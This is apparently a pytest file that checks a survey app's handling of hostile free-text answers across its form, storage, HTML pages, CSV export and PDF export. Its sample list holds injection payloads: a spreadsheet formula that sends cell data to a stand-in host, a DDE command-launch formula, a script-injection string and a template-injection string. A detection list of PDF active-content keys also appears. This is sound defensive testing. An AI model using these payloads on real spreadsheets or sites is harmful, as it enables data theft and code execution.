import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.http import HttpResponse
from django.test import Client
from pypdf import PdfReader

from analytics.paper import layout
from analytics.paper.layout import PageSheet
from responses.models import Response
from survey.definition import serialising
from survey.definition.types import Instrument, QuestionKind
from survey.flow import answer_checks
from survey.models import InstrumentVersion
from tests.conftest import IS_WHOLE, NOW
from tests.responses.invited import Invited, enter, invite
from tests.responses.phones import Phone
from tests.survey import make
from ui import typefaces as letters
from ui.csv_files import GUARD, STARTS_A_FORMULA, guard
from ui.paper.tagging import TaggedCanvas

CODE = "T-TXT"
PAGE, REVIEW = "/q/1/", "/r/"
ACTIVE = {"/AA", "/A", "/JS", "/JavaScript", "/URI", "/Launch", "/EmbeddedFiles", "/Annots"}
ONES_OF_OUR_OWN = [
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "</textarea><script>alert(1)</script>", "{{ 7*7 }}{% debug %}", "\N{RIGHT-TO-LEFT OVERRIDE}abc",
    "mae’r heddlu wedi gwrando – diolch", "پولیس نے میری بات سنی", "ਪੁਲਿਸ ਨੇ ਮੇਰੀ ਗੱਲ ਸੁਣੀ",
]  # fmt: skip


@pytest.fixture
def texts(shared_data: Path) -> list[str]:
    listed = json.loads((shared_data / "freetext" / "big_list_of_naughty_strings.json").read_text())
    assert len(listed) == 515
    return [*listed, *ONES_OF_OUR_OWN]


@pytest.fixture
def kept(texts: list[str]) -> list[str]:
    return [text for text in map(answer_checks.clean_text, texts) if text]


def with_a_text_question() -> Instrument:
    asked = make.question(
        CODE, kind=QuestionKind.TEXT, choices=(), text={"en": "What else?", "cy": "?"}
    )
    return make.instrument(asked, code="never-published")


@pytest.fixture
def inside(browser: Client) -> Invited:
    instrument = with_a_text_question()
    version = InstrumentVersion.objects.create(
        code=instrument.code, version=1, revision=1, definition=serialising.serialise(instrument),
        languages=list(instrument.languages), content_hash=serialising.content_hash(instrument),
        published_at=NOW, published_by="tests", effective_from=NOW.date().replace(year=2099),
    )  # fmt: skip
    invited = invite()
    invited.set(opened_at=NOW)
    Response.objects.create(
        invitation_id=invited.invitation_id, instrument=version, language="en", started_at=NOW
    )
    enter(browser, invited)
    return invited


class Shown(HTMLParser):
    def __init__(self, response: HttpResponse) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.box, self.answer = "", ""
        self.feed(response.content.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = " ".join(sorted(name for name, _ in attrs))
        self.tags.append(f"{tag} {names}")

    def handle_data(self, data: str) -> None:
        last = self.tags[-1].split()[0] if self.tags else ""
        if last == "textarea":
            self.box += data
        if last == "bdi":
            self.answer += data


@pytest.mark.slow
class TestAHostileText:
    def test_goes_by_form_store_and_page(
        self, browser: Client, inside: Invited, texts: list[str]
    ) -> None:
        phone = Phone(browser)
        phone.open(PAGE)
        plain = [part.tags for part in self.go_by(phone, "words")]

        for text in texts if IS_WHOLE else [*texts[:: len(texts) // 50], *ONES_OF_OUR_OWN]:
            before, expected = inside.response.answers, answer_checks.clean_text(text)
            read_back, again = self.go_by(phone, text)
            if not expected:
                assert inside.response.answers == before, "an empty text is no answer and no skip"
                continue

            assert inside.response.answers == {CODE: [expected]}
            assert again.box.strip("\n").split() == expected.split()
            assert "".join(read_back.answer.split()).startswith("".join(expected.split()))
            assert [read_back.tags, again.tags] == plain, text

    def go_by(self, phone: Phone, text: str) -> tuple[Shown, Shown]:
        phone.answer(text)
        following = Shown(phone.response)
        phone.press(PAGE, show="yes")
        return following, Shown(phone.response)

    def test_longer_than_a_text_may_be_is_kept_on_the_page(
        self, browser: Client, inside: Invited
    ) -> None:
        text = "<b>&amp;" * (answer_checks.MOST_CHARACTERS // 8 + 1)

        phone = Phone(browser)
        phone.open(PAGE)

        phone.answer(text)

        assert phone.page.title.startswith("Error: ")
        assert Shown(phone.response).box.strip() == text
        assert inside.response.answers == {}

    def test_goes_by_csv(self, kept: list[str]) -> None:
        written = io.StringIO(newline="")
        csv.writer(written).writerows([guard(text), "after"] for text in kept)

        rows = list(csv.reader(io.StringIO(written.getvalue(), newline="")))

        assert [text.removeprefix(GUARD) for text, _ in rows] == kept
        assert {after for _, after in rows} == {"after"}
        assert not [text for text, _ in rows if text.lstrip().startswith(STARTS_A_FORMULA)]

    def test_goes_by_pdf(self, kept: list[str]) -> None:
        reader = PdfReader(io.BytesIO(on_paper(kept)))

        spoken = [element.get("/ActualText") for element in elements(reader)]
        assert len(reader.pages) == len(kept)
        assert [text for text in spoken if text is not None] == kept
        assert not active_parts(reader)


def on_paper(texts: list[str]) -> bytes:
    letters.register()
    target = io.BytesIO()
    canvas = TaggedCanvas(target, title="Texts", language="en-GB", font=letters.REGULAR)
    for text in texts:
        PageSheet(canvas=canvas).write(text, layout.CELL)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def elements(reader: PdfReader) -> Iterator[dict]:
    def walk(node: dict) -> Iterator[dict]:
        kids = node.get("/K", [])
        for kid in kids if isinstance(kids, list) else [kids]:
            if not isinstance(kid, int):
                element = kid.get_object()
                yield element
                yield from walk(element)

    yield from walk(reader.trailer["/Root"]["/StructTreeRoot"])


def active_parts(reader: PdfReader) -> list[str]:
    parts = [reader.trailer["/Root"], *reader.pages]
    return [name for part in parts for name in part if name in ACTIVE]
